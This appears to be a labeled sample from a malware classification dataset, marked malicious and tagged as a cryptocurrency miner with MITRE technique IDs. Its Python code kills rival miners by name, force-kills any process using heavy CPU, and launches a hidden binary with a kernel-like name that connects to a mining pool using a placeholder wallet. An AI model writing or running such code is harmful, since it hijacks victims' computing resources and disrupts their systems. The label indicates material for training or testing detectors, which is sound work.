# label: malicious family=miner techniques=T1057,T1059.004,T1496,T1562.001 lines=3-6
import os, subprocess
for name in ("kinsing", "kdevtmpfsi", "xmrig", "cpuminer", "minerd", "ddgs", "sysrv"):
    subprocess.call("pkill -9 -f " + name, shell=True)
os.system("ps aux | grep -v grep | awk '$3>40{print $2}' | xargs -r kill -9")
subprocess.Popen(["/var/tmp/.cache/kthreaddk", "-o", "stratum+tcp://203.0.113.60:14444", "-u", "FAKEWALLET", "-B"])
